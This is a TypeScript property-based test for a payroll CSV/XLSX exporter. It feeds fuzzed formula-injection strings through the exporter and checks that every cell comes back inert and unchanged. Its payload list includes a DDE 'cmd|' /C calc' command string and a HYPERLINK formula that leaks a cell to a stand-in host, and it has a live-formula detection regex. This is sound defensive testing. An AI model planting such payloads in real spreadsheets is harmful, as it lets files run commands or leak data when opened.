/** Writes payrolls full of texts that want to be formulas, and reads the files back with readers of other hands: no cell may be live, none may be changed. */

import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { SaxesParser } from 'saxes';
import { openPromise } from 'yauzl';
import type { Payroll, PayrollLine } from '../src/lib/payroll.ts';
import { inert } from '../src/paper/payroll/inert.ts';
import { writePayroll } from '../src/paper/payroll/write.ts';
import type { SigningKeys } from '../src/paper/seal/keys.ts';
import { PAYROLL, payrollLine } from './payrolls.ts';

/** What was written and what was wrong with it. */
export type Safety = { readonly texts: number; readonly cells: number; readonly findings: readonly string[] };

/** How many texts, from which seed, into which folder, sealed by whom. */
export type SafetyOrder = { readonly texts: number; readonly seed: number; readonly folder: string; readonly keys: SigningKeys };

const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', '\n', '\0', '−', '﹦'];

const PAYLOADS = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x/?"&A1)',
  'SUM(1,2)',
  '',
  '2850.00',
  '"";=1',
  '_x003D_1',
  '</t></si>',
  ' ',
];

const PREFIXES = ['', '', '', ' ', '　', '\ufeff', '\u200b', '\t', ';', '备注;', 'a\t', 'a\n', 'a\r', 'a,', '"', "'", '";', '",'];

/** A text that wants to be a formula, more often than not. */
const hostile = fc
  .tuple(
    fc.constantFrom(...PREFIXES),
    fc.constantFrom(...SIGNS, ''),
    fc.oneof(fc.constantFrom(...PAYLOADS), fc.string({ unit: 'grapheme', maxLength: 12 })),
  )
  .map((parts) => parts.join(''));

/** How many items there are, each with a column of its own in the sheet of persons. */
const ITEMS = 40;

/** Writes and reads; a finding is a cell that is live, lost or changed. */
export async function exportSafety({ texts, seed, folder, keys }: SafetyOrder): Promise<Safety> {
  const all = fc.sample(hostile, { numRuns: texts, seed });
  const items = all.slice(0, ITEMS);
  const lines = Array.from({ length: Math.ceil(texts / 4) }, (_, k) => lineOf([...all.slice(4 * k, 4 * k + 4), items[k % ITEMS] ?? ''], k));
  const payroll: Payroll = { ...PAYROLL, lines };
  const [csv, xlsx] = [join(folder, `safety-${seed}.csv`), join(folder, `safety-${seed}.xlsx`)];
  const findings: string[] = [];
  for (const path of [csv, xlsx]) {
    const { problems } = await writePayroll(payroll, path, { language: 'zh', keys });
    findings.push(...problems.map(({ code }) => `${path}: ${code}`));
  }
  findings.push(...csvFindings(readFileSync(csv, 'utf8'), lines));
  const book = await bookFindings(xlsx, lines);
  return { texts: all.length, cells: lines.length * 10 + book.cells, findings: [...findings, ...book.findings] };
}

/** Negative amounts among them: those begin with a sign and are numbers all the same. */
function lineOf([name = '', title = '', reason = '', from = '', item = '']: readonly string[], k: number): PayrollLine {
  return payrollLine({
    subject: `E${k}`,
    name,
    title,
    item,
    reason,
    from,
    fen: BigInt((k % 7) - 3) * 12_345n,
    kind: k % 2 === 0 ? 'pay' : 'adjustment',
  });
}

const LIVE = /^[\s\p{C}]*[=+\-@＝＋－＠﹦﹢﹣﹫−]|^[\t\r\n\0]/u;

const AMOUNT = /^-?\d+\.\d\d$/;

const textsOf = ({ subject, name, item, title, reason, from }: PayrollLine): readonly string[] => [
  subject,
  name,
  item,
  title,
  reason ?? '',
  from ?? '',
];

const TEXT_COLUMNS = [0, 1, 2, 3, 8, 9];

/** What is wrong with a CSV text of these lines. */
export function csvFindings(text: string, lines: readonly PayrollLine[]): readonly string[] {
  const rows = parse(text, { bom: true, record_delimiter: '\r\n' }) as readonly (readonly string[])[];
  const findings = rows.length === lines.length + 1 ? [] : [`CSV: ${rows.length} rows for ${lines.length} lines`];
  for (const [k, line] of lines.entries()) {
    const cells = rows[k + 1] ?? [];
    const wanted = textsOf(line).map(inert);
    if (TEXT_COLUMNS.some((column, at) => cells[column] !== wanted[at])) findings.push(`CSV: line ${k} changed`);
    if (cells.some((cell, column) => LIVE.test(cell) && column !== 7)) findings.push(`CSV: line ${k} is live`);
    if (!AMOUNT.test(cells[7] ?? '')) findings.push(`CSV: line ${k} has no amount`);
  }
  return [...findings, ...otherDelimiters(text)];
}

/** What a reader makes of the file that takes semicolons or tabs for delimiters and has lost count of the quotes. */
function otherDelimiters(text: string): readonly string[] {
  const pieces = text.slice(1).split(/[;\t\r\n]/);
  return pieces
    .filter((piece) => LIVE.test(piece) && !AMOUNT.test(piece))
    .map((piece) => `CSV: live with another delimiter: ${JSON.stringify(piece)}`);
}

type Cell = { readonly sheet: string; readonly type: string; readonly value: string; readonly formula: boolean };

/** What is wrong with a workbook of these lines, and how many cells it has. */
export async function bookFindings(
  path: string,
  lines: readonly PayrollLine[],
): Promise<{ readonly cells: number; readonly findings: readonly string[] }> {
  const parts = await partsOf(path);
  const shared = sharedTexts(parts.get('xl/sharedStrings.xml') ?? '<sst/>');
  const cells = [...parts].filter(([name]) => name.startsWith('xl/worksheets/sheet')).flatMap(([name, xml]) => cellsOf(name, xml));
  const findings = cells
    .filter(({ formula, type }) => formula || !['s', 'n'].includes(type))
    .map((cell) => `XLSX: ${JSON.stringify(cell)} is no plain value`);
  const seen = new Set(cells.filter(({ type }) => type === 's').map(({ value }) => shared[Number(value)] ?? ''));
  for (const [k, line] of lines.entries())
    for (const text of textsOf(line)) if (text !== '' && !seen.has(text)) findings.push(`XLSX: line ${k} lost ${JSON.stringify(text)}`);
  const amounts = cells.filter(({ sheet, type }) => sheet.endsWith('sheet2.xml') && type === 'n').map(({ value }) => value);
  if (amounts.join() !== lines.map(({ fen }) => String(Number(fen) / 100)).join()) findings.push('XLSX: amounts changed');
  return { cells: cells.length, findings };
}

async function partsOf(path: string): Promise<ReadonlyMap<string, string>> {
  const parts = new Map<string, string>();
  const zip = await openPromise(path);
  for await (const entry of zip.eachEntry()) {
    const chunks: Uint8Array[] = [];
    for await (const chunk of await zip.openReadStreamPromise(entry)) chunks.push(chunk as Uint8Array);
    parts.set(entry.fileName, Buffer.concat(chunks).toString('utf8'));
  }
  return parts;
}

function sharedTexts(xml: string): readonly string[] {
  const texts: string[] = [];
  const parser = new SaxesParser();
  parser.on('opentag', ({ name }) => void (name === 'si' && texts.push('')));
  parser.on('text', (text) => {
    if (texts.length > 0) texts[texts.length - 1] += text;
  });
  parser.write(xml).close();
  return texts.map((text) => text.replaceAll(/_x([0-9A-Fa-f]{4})_/g, (_, code: string) => String.fromCharCode(Number.parseInt(code, 16))));
}

function cellsOf(sheet: string, xml: string): readonly Cell[] {
  const cells: { sheet: string; type: string; value: string; formula: boolean }[] = [];
  const parser = new SaxesParser();
  parser.on('opentag', ({ name, attributes }) => {
    if (name === 'c') cells.push({ sheet, type: attributes['t'] ?? 'n', value: '', formula: false });
    const last = cells.at(-1);
    if (name === 'f' && last !== undefined) last.formula = true;
  });
  parser.on('text', (text) => {
    const last = cells.at(-1);
    if (last !== undefined) last.value += text;
  });
  parser.write(xml).close();
  return cells.filter(({ value }) => value !== '');
}
